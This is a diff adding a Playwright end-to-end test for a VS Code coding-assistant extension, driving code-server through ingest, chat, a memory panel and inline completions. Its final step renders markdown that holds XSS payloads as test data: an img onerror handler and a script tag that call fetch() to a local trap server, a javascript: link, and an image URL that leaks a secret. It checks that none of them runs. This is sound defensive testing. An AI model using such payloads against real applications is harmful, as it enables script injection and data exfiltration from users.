@@ -1,0 +1,256 @@
+// End-to-end test in a real VS Code (code-server 4.100.3, offline) driven by Playwright + Debian chromium.
+// Needs `bash test/e2e/install.sh` and a packaged .vsix (`npm run package`); `npm run test:e2e` does all three.
+// Steps: trust the workspace and watch the status-bar gauge change during ingest; Ask About Codebase and see
+// the streamed answer in the sidebar chat; open the memory panel and see its chart; type in a file and accept
+// an inline completion; render hostile model output in the chat and check nothing runs and nothing is fetched.
+// Screenshots go to test/e2e/artifacts/. Ends with `N passed, M failed`.
+
+import { spawn, execFileSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as http from 'node:http';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { createRequire } from 'node:module';
+
+const here = path.dirname(new URL(import.meta.url).pathname);
+const repo = path.resolve(here, '..', '..');
+const tools = path.join(here, '.tools', 'node_modules');
+const require = createRequire(path.join(tools, 'x.js'));
+const { chromium } = require('playwright-core');
+const codeServer = path.join(tools, '.bin', 'code-server');
+const artifacts = path.join(here, 'artifacts');
+fs.mkdirSync(artifacts, { recursive: true });
+
+const vsix = fs.readdirSync(repo).filter((f) => f.endsWith('.vsix')).map((f) => path.join(repo, f))[0];
+if (!vsix) throw new Error('no .vsix in the repository root: run `npm run package` first.');
+
+// A fresh profile, extensions dir and sample workspace.
+const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'sw-e2e-'));
+const userData = path.join(tmp, 'user');
+const extDir = path.join(tmp, 'ext');
+const ws = path.join(tmp, 'workspace');
+fs.mkdirSync(path.join(userData, 'User'), { recursive: true });
+fs.mkdirSync(path.join(ws, 'src'), { recursive: true });
+fs.writeFileSync(path.join(ws, 'src', 'alpha.py'), 'def alpha(x):\n    """Adds one."""\n    return x + 1\n');
+fs.writeFileSync(path.join(ws, 'src', 'beta.ts'), 'export function beta(s: string): string {\n  return s.trim();\n}\n');
+fs.writeFileSync(path.join(ws, 'notes.md'), '# Notes\n\nalpha is in src/alpha.py.\n');
+fs.writeFileSync(
+  path.join(userData, 'User', 'settings.json'),
+  JSON.stringify({
+    'sidewinder.model': path.join(repo, 'test', 'fixtures', 'granite-moe-rope'),
+    'sidewinder.completion.debounceMs': 50,
+    'sidewinder.completion.maxTokens': 6,
+    'sidewinder.chat.maxAnswerTokens': 12,
+    'workbench.startupEditor': 'none',
+    'extensions.autoCheckUpdates': false,
+    'extensions.autoUpdate': false,
+    'telemetry.telemetryLevel': 'off',
+  }),
+);
+
+// A local server stands in for an attacker's host: any request to it means model output leaked data.
+let leaks = 0;
+const trap = http.createServer((req, res) => {
+  leaks++;
+  res.end('');
+});
+await new Promise((r) => trap.listen(0, '127.0.0.1', r));
+const trapUrl = `http://127.0.0.1:${trap.address().port}`;
+const hostile = path.join(tmp, 'hostile.md');
+fs.writeFileSync(
+  hostile,
+  [
+    'Here is the answer.',
+    '',
+    `<img src=x onerror="window.__pwned = 1; fetch('${trapUrl}/onerror')">`,
+    '',
+    `<script>window.__pwned = 2; fetch('${trapUrl}/script')</script>`,
+    '',
+    '[click me](javascript:window.__pwned=3)',
+    '',
+    `![leak](${trapUrl}/leak.png?secret=42)`,
+    '',
+    '`src/alpha.py` is a file.',
+  ].join('\n'),
+);
+
+execFileSync(codeServer, ['--extensions-dir', extDir, '--user-data-dir', userData, '--install-extension', vsix], { stdio: 'inherit' });
+
+const port = 20000 + Math.floor(Math.random() * 20000);
+const server = spawn(
+  codeServer,
+  ['--auth', 'none', '--bind-addr', `127.0.0.1:${port}`, '--disable-telemetry', '--disable-update-check', '--user-data-dir', userData, '--extensions-dir', extDir, ws],
+  { env: { ...process.env, SIDEWINDER_E2E: '1', SIDEWINDER_E2E_MARKDOWN: hostile }, stdio: ['ignore', 'pipe', 'pipe'], detached: true },
+);
+const serverLog = fs.createWriteStream(path.join(artifacts, 'code-server.log'));
+server.stdout.pipe(serverLog);
+server.stderr.pipe(serverLog);
+
+const results = [];
+let browser;
+let page;
+async function step(name, fn) {
+  const t0 = Date.now();
+  try {
+    await fn();
+    results.push([name, true]);
+    console.log(`PASS ${name} (${((Date.now() - t0) / 1000).toFixed(1)} s)`);
+  } catch (e) {
+    results.push([name, false]);
+    console.log(`FAIL ${name}: ${e?.stack ?? e}`);
+  }
+  if (page) await page.screenshot({ path: path.join(artifacts, `${results.length}-${name.replace(/[^a-z0-9]+/gi, '-')}.png`) }).catch(() => {});
+}
+
+async function command(title) {
+  await page.keyboard.press('Escape');
+  await page.keyboard.press('Control+Shift+P');
+  const input = page.locator('.quick-input-widget:visible input');
+  await input.waitFor({ state: 'visible', timeout: 15000 });
+  await input.fill('>' + title);
+  await page.locator('.quick-input-list .monaco-list-row', { hasText: title }).first().waitFor({ timeout: 15000 });
+  await input.press('Enter');
+}
+
+async function frameWith(selector, timeoutMs = 60000) {
+  const deadline = Date.now() + timeoutMs;
+  while (Date.now() < deadline) {
+    for (const f of page.frames()) if (await f.locator(selector).count().catch(() => 0)) return f;
+    await page.waitForTimeout(250);
+  }
+  throw new Error(`no webview frame shows ${selector}`);
+}
+
+try {
+  // Wait for the server.
+  for (let i = 0; ; i++) {
+    try {
+      await new Promise((res, rej) => http.get(`http://127.0.0.1:${port}/healthz`, (r) => (r.resume(), res())).on('error', rej));
+      break;
+    } catch {
+      if (i > 120) throw new Error('code-server did not start; see test/e2e/artifacts/code-server.log');
+      await new Promise((r) => setTimeout(r, 500));
+    }
+  }
+  browser = await chromium.launch({
+    executablePath: '/usr/bin/chromium',
+    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
+  });
+  page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
+  await page.goto(`http://127.0.0.1:${port}/?folder=${encodeURIComponent(ws)}`);
+  await page.waitForSelector('.monaco-workbench', { timeout: 90000 });
+
+  await step('trust, ingest and the status-bar gauge', async () => {
+    await page.getByRole('button', { name: 'Yes, I trust the authors' }).click({ timeout: 60000 });
+    const gauge = page.locator('.statusbar-item', { hasText: /Sidewinder|tok|[KMG]?B\b/ }).filter({ has: page.locator('.codicon') }).first();
+    const seen = new Set();
+    const deadline = Date.now() + 240000;
+    let final = '';
+    while (Date.now() < deadline) {
+      const text = (await page.locator('.statusbar-item').allInnerTexts()).map((t) => t.trim()).find((t) => /^(Sidewinder|\d+%|\d[\d.]*\s?[KMG]?(B|tok))/.test(t) || /\b[KMG]B$/.test(t));
+      if (text) seen.add(text);
+      if (text && /\d(\.\d+)?\s?[KMG]?B$/.test(text)) {
+        final = text;
+        break;
+      }
+      await page.waitForTimeout(200);
+    }
+    void gauge;
+    console.log(`  gauge texts seen: ${[...seen].join(' | ')}`);
+    if (!final) throw new Error(`the gauge never showed a memory total (saw: ${[...seen].join(' | ')})`);
+    if (seen.size < 2) throw new Error(`the gauge did not change during ingest (saw only: ${final})`);
+  });
+
+  await step('Ask About Codebase streams an answer into the sidebar chat', async () => {
+    await command('Sidewinder: Ask About Codebase');
+    const input = page.locator('.quick-input-widget:visible input');
+    await input.waitFor({ state: 'visible', timeout: 15000 });
+    await input.fill('Where is alpha defined?');
+    await input.press('Enter');
+    const chat = await frameWith('#log');
+    const answer = chat.locator('.answer').last();
+    await answer.waitFor({ timeout: 120000 });
+    const deadline = Date.now() + 180000;
+    let text = '';
+    while (Date.now() < deadline) {
+      text = (await answer.innerText().catch(() => '')).trim();
+      if (text.length > 0) break;
+      await page.waitForTimeout(250);
+    }
+    if (!text) throw new Error('no answer text appeared in the chat');
+    console.log(`  answer: ${JSON.stringify(text.slice(0, 60))}`);
+  });
+
+  await step('Show Memory opens the memory panel with a chart', async () => {
+    await command('Sidewinder: Show Memory');
+    const panel = await frameWith('.uplot, canvas', 60000);
+    const box = await panel.locator('canvas').first().boundingBox();
+    if (!box || box.width < 50 || box.height < 30) throw new Error(`chart canvas too small: ${JSON.stringify(box)}`);
+  });
+
+  await step('an inline completion appears and is accepted with Tab', async () => {
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('Control+Shift+P');
+    const input = page.locator('.quick-input-widget:visible input');
+    await input.waitFor({ state: 'visible', timeout: 15000 });
+    await input.fill('beta.ts');
+    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'beta.ts' }).first().waitFor({ timeout: 15000 });
+    await input.press('Enter');
+    const editor = page.locator('.monaco-editor .view-lines').first();
+    await editor.waitFor({ timeout: 30000 });
+    await editor.click();
+    await page.keyboard.press('Control+End');
+    await page.keyboard.press('Enter');
+    const before = await editor.innerText();
+    await page.keyboard.type('export function gamma(');
+    const ghost = page.locator('.ghost-text-decoration, .ghost-text, .ghost-text-decoration-preview').first();
+    let shown = false;
+    for (let i = 0; i < 6 && !shown; i++) {
+      try {
+        await ghost.waitFor({ timeout: 20000 });
+        shown = true;
+      } catch {
+        await page.keyboard.type(' ');
+        await page.keyboard.press('Backspace');
+      }
+    }
+    if (!shown) throw new Error('no inline suggestion appeared');
+    const typed = await editor.innerText();
+    await page.keyboard.press('Tab');
+    await page.waitForTimeout(500);
+    const after = await editor.innerText();
+    if (after === typed || after === before) throw new Error('accepting the suggestion did not change the document');
+  });
+
+  await step('hostile model output runs nothing and fetches nothing', async () => {
+    await command('Sidewinder: Render Test Markdown (end-to-end test)');
+    const chat = await frameWith('#log');
+    await chat.locator('.answer', { hasText: 'Here is the answer.' }).last().waitFor({ timeout: 30000 });
+    await page.waitForTimeout(1500);
+    const answer = chat.locator('.answer', { hasText: 'Here is the answer.' }).last();
+    const pwned = await chat.evaluate(() => window.__pwned ?? 0);
+    const scripts = await answer.locator('script').count();
+    const imgs = await answer.locator('img').count();
+    const jsLinks = await answer.locator('a[href^="javascript:"]').count();
+    const html = await answer.innerHTML();
+    if (pwned) throw new Error(`injected code ran (__pwned = ${pwned})`);
+    if (scripts || imgs || jsLinks) throw new Error(`live elements in the answer: ${scripts} script, ${imgs} img, ${jsLinks} javascript: links`);
+    if (/onerror\s*=/i.test(html.replace(/&lt;[^&]*&gt;/g, ''))) throw new Error('an onerror attribute survived');
+    if (leaks > 0) throw new Error(`${leaks} request(s) reached the trap server`);
+  });
+} catch (e) {
+  results.push(['setup', false]);
+  console.log(`FAIL setup: ${e?.stack ?? e}`);
+  if (page) await page.screenshot({ path: path.join(artifacts, 'setup-failure.png') }).catch(() => {});
+} finally {
+  await browser?.close().catch(() => {});
+  try {
+    process.kill(-server.pid, 'SIGTERM');
+  } catch {}
+  trap.close();
+}
+
+const passed = results.filter(([, ok]) => ok).length;
+const failed = results.length - passed;
+console.log(`${passed} passed, ${failed} failed`);
+process.exit(failed ? 1 : 0);
